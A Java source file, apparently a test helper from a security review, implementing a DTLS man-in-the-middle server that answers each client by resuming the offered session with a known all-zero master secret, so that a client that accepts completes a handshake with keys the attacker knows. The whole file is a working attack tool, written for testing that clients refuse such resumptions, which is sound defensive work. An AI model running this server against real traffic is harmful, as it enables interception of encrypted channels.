package dev.corridor.sidecar.hostile;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.SocketAddress;
import java.net.SocketTimeoutException;
import java.security.SecureRandom;
import java.util.concurrent.atomic.AtomicInteger;
import org.bouncycastle.tls.CipherSuite;
import org.bouncycastle.tls.DTLSServerProtocol;
import org.bouncycastle.tls.DatagramTransport;
import org.bouncycastle.tls.PSKTlsServer;
import org.bouncycastle.tls.ProtocolVersion;
import org.bouncycastle.tls.SessionParameters;
import org.bouncycastle.tls.TlsPSKIdentityManager;
import org.bouncycastle.tls.TlsSession;
import org.bouncycastle.tls.TlsUtils;
import org.bouncycastle.tls.crypto.TlsCrypto;
import org.bouncycastle.tls.crypto.impl.jcajce.JcaTlsCryptoProvider;

/**
 * An attacker on the UDP path between the pod and the gateway, as the security review reproduced it: it knows no
 * PSK, but answers each ClientHello by resuming whatever session the client offers (in PSK-NEGOTIATE mode, the
 * App-ID) with the secret the client once used for it, 48 zero bytes. A client that goes along completes an
 * abbreviated handshake with keys the attacker knows. It serves one client handshake after another until closed,
 * and counts what it achieved.
 */
public final class DtlsAttacker implements AutoCloseable {
    private final DatagramSocket socket;
    private final TlsCrypto crypto = new JcaTlsCryptoProvider().create(new SecureRandom());
    private final AtomicInteger resumptionsOffered = new AtomicInteger();
    private final AtomicInteger handshakesCompleted = new AtomicInteger();
    private final AtomicInteger handshakesAbandoned = new AtomicInteger();
    private final Thread thread;

    /** Starts serving on a bound socket (bound in whatever namespace the caller chose). */
    public DtlsAttacker(DatagramSocket socket) {
        this.socket = socket;
        this.thread = Thread.ofPlatform().daemon().name("dtls-attacker").start(this::serve);
    }

    /** ServerHellos sent that resume the client's offered session. */
    public int resumptionsOffered() {
        return resumptionsOffered.get();
    }

    /** Handshakes the attacker completed: each one a channel whose keys it knows. */
    public int handshakesCompleted() {
        return handshakesCompleted.get();
    }

    /** Resumptions offered that the client did not complete: it refused, or went quiet. */
    public int handshakesAbandoned() {
        return handshakesAbandoned.get();
    }

    private void serve() {
        while (!socket.isClosed()) {
            ResumingServer server = new ResumingServer();
            try {
                new DTLSServerProtocol().accept(server, new ConnectingTransport(socket));
                handshakesCompleted.incrementAndGet();
            } catch (IOException e) {
                if (server.offered) {
                    handshakesAbandoned.incrementAndGet();
                }
            } finally {
                socket.disconnect();
            }
        }
    }

    @Override
    public void close() throws InterruptedException {
        socket.close();
        thread.join(5000);
    }

    private final class ResumingServer extends PSKTlsServer {
        private volatile boolean offered;

        ResumingServer() {
            super(crypto, new TlsPSKIdentityManager() {
                @Override
                public byte[] getHint() {
                    return null;
                }

                @Override
                public byte[] getPSK(byte[] identity) {
                    return new byte[32]; // a guess: the attacker does not know the PSK
                }
            });
        }

        @Override
        protected ProtocolVersion[] getSupportedVersions() {
            return ProtocolVersion.DTLSv12.only();
        }

        @Override
        protected int[] getSupportedCipherSuites() {
            return new int[] {CipherSuite.TLS_PSK_WITH_AES_256_GCM_SHA384, CipherSuite.TLS_PSK_WITH_AES_128_GCM_SHA256};
        }

        /** Gives up on a client that goes quiet, so that the next one gets its turn. */
        @Override
        public int getHandshakeTimeoutMillis() {
            return 2000;
        }

        @Override
        public TlsSession getSessionToResume(byte[] sessionId) {
            resumptionsOffered.incrementAndGet();
            offered = true;
            SessionParameters parameters = new SessionParameters.Builder()
                    .setCipherSuite(CipherSuite.TLS_PSK_WITH_AES_256_GCM_SHA384)
                    .setNegotiatedVersion(ProtocolVersion.DTLSv12)
                    .setExtendedMasterSecret(true)
                    .setMasterSecret(getCrypto().createSecret(new byte[48]))
                    .build();
            return TlsUtils.importSession(sessionId, parameters);
        }
    }

    /** The attacker's socket as Bouncy Castle sees it: connected to a client once its first datagram arrives. */
    private static final class ConnectingTransport implements DatagramTransport {
        private final DatagramSocket socket;

        ConnectingTransport(DatagramSocket socket) {
            this.socket = socket;
        }

        @Override
        public int getReceiveLimit() {
            return 1500;
        }

        @Override
        public int getSendLimit() {
            return 1400;
        }

        @Override
        public int receive(byte[] buf, int off, int len, int waitMillis) throws IOException {
            socket.setSoTimeout(Math.max(waitMillis, 1));
            DatagramPacket packet = new DatagramPacket(buf, off, len);
            try {
                socket.receive(packet);
            } catch (SocketTimeoutException e) {
                return -1;
            }
            if (!socket.isConnected()) {
                SocketAddress client = packet.getSocketAddress();
                socket.connect(client);
            }
            return packet.getLength();
        }

        @Override
        public void send(byte[] buf, int off, int len) throws IOException {
            socket.send(new DatagramPacket(buf, off, len));
        }

        @Override
        public void close() {}
    }
}
